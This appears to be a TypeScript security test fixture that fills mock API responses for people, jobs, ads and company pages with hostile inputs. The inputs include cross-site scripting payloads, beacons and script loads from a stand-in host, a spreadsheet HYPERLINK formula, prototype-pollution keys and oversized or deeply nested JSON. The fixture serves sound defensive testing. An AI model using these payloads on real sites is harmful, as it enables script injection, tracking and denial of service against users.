import type { RouteId } from '@/lib/core/answers/view'

/** What a hostile upstream sells, and where. */
type Hostile = { name: string; route: RouteId; body: string }

/** Each of these would run, leave the page or break out somewhere, if anything could. */
const payloads = [
  '<script>window.pwned=1;alert(1)</script>',
  '"><img src=x onerror="window.pwned=2;alert(2)">',
  '<svg onload=alert(3)><use href="data:image/svg+xml,<svg onload=alert(3)>"/>',
  'javascript:window.pwned=4',
  ' javascript:alert(5)',
  'java\nscript:alert(6)',
  'data:text/html,<script>opener.pwned=7</script>',
  'vbscript:msgbox(8)',
  'https://track.example/beacon.png',
  '//track.example/9.png',
  '<iframe srcdoc="<script>parent.pwned=10</script>"></iframe>',
  '<a href="javascript:alert(11)" style="position:fixed;inset:0">x</a>',
  '<form action="https://track.example/"><button autofocus onfocus=alert(12)>x</form>',
  '{{constructor.constructor("alert(13)")()}}',
  '</title></style></textarea><script src="https://track.example/14.js"></script>',
  '<base href="https://track.example/"><meta http-equiv=refresh content="0;url=https://track.example/15">',
  '\u202Egnp.exe\u202C and \u2066isolated\u2069 and \u200Bzero\u200Dwidth',
  '=HYPERLINK("https://track.example/17","x")',
  'https://user:pass@track.example/18',
  'https://xn--pple-43d.example/19',
] as const

const fields = {
  id: 0,
  name: 1,
  fullName: 2,
  headline: 3,
  title: 4,
  position: 5,
  photo: 8,
  avatar: 9,
  url: 3,
  profileUrl: 6,
  website: 7,
  link: 10,
  descriptionHtml: 11,
  description: 12,
  about: 15,
  content: 14,
  commentary: 13,
  logo: 4,
  companyUrl: 18,
  applyUrl: 19,
  email: 16,
  phone: 17,
  jobId: 1,
  adId: 2,
  postedDate: 0,
  location: 16,
  'a.b': 0,
  '': 1,
  '<b>key</b>': 2,
  'javascript:key()': 3,
}

const record = (from: number): Record<string, unknown> => ({
  ...Object.fromEntries(
    Object.entries(fields).map(([name, at]) => [name, payloads[(at + from) % payloads.length]]),
  ),
  company: { name: payloads[from % payloads.length], url: payloads[3], logo: payloads[8] },
  image: { url: payloads[(from + 3) % payloads.length], width: 100 },
  tags: payloads.slice(0, 5),
})

const rows = Array.from({ length: payloads.length }, (_, at) => record(at))
const list = (key: string) => JSON.stringify({ [key]: rows, cursor: payloads[0], message: payloads[1] })

const million = (text: string) => text.repeat(Math.ceil(1_000_000 / text.length))

const nested = (depth: number) => `${'{"a":['.repeat(depth / 2)}1${']}'.repeat(depth / 2)}`

const keys =
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":2}},"toString":"x","valueOf":null,' +
  '"hasOwnProperty":1,"name":"Keys","name":"Twice","id":123456789012345678901234567890,"big":1e400,"less":-1e400,' +
  '"zero":-0,"tiny":5e-324,"long":0.1000000000000000055511151231257827,"":"blank","length":99999999999}'

export const hostile: readonly Hostile[] = [
  { name: 'script in every string of people', route: 'people', body: list('people') },
  { name: 'script in every string of companies', route: 'companies', body: list('companies') },
  { name: 'script in every string of jobs', route: 'jobs', body: list('jobs') },
  { name: 'script in every string of ads', route: 'ads', body: list('ads') },
  { name: 'script in every string of posts', route: 'posts', body: list('posts') },
  { name: 'script in every string of places', route: 'places', body: list('places') },
  {
    name: 'script in every string of a company',
    route: 'company',
    body: JSON.stringify({ company: record(2) }),
  },
  { name: 'script in every string of a job', route: 'job', body: JSON.stringify({ job: record(4) }) },
  { name: 'script in every string of an ad', route: 'ad', body: JSON.stringify({ ad: record(6) }) },
  {
    name: 'script in reactions and comments',
    route: 'engagement',
    body: JSON.stringify({
      reactions: rows.map((actor) => ({ type: payloads[0], actor })),
      comments: rows.map((actor) => ({ ...record(3), actor })),
    }),
  },
  {
    name: 'strings of a megabyte',
    route: 'people',
    body: JSON.stringify({
      people: [
        { id: 1, name: million('A'), headline: million('wide words '), descriptionHtml: million('<b>x</b>') },
        { id: 2, name: 'Two', headline: million('\u202E'), about: million('\n'), tags: [million('y')] },
      ],
    }),
  },
  {
    name: 'fifty thousand rows',
    route: 'people',
    body: JSON.stringify({
      people: Array.from({ length: 50_000 }, (_, at) => ({ id: at, name: `Person ${at}`, headline: 'x' })),
    }),
  },
  {
    name: 'five thousand levels',
    route: 'people',
    body: `{"people":[{"id":1,"name":"Deep","inside":${nested(5_000)}},{"id":2,"name":"Two"}],"more":${nested(5_000)}}`,
  },
  { name: 'nothing but levels', route: 'company', body: `${'['.repeat(5_000)}${']'.repeat(5_000)}` },
  {
    name: 'keys that are words of the language',
    route: 'people',
    body: `{"people":[${keys},${keys}],"__proto__":{"polluted":3}}`,
  },
  {
    name: 'forty thousand keys',
    route: 'company',
    body: JSON.stringify({
      company: {
        name: 'Many',
        ...Object.fromEntries(Array.from({ length: 40_000 }, (_, at) => [`k${at}`, at])),
      },
    }),
  },
]
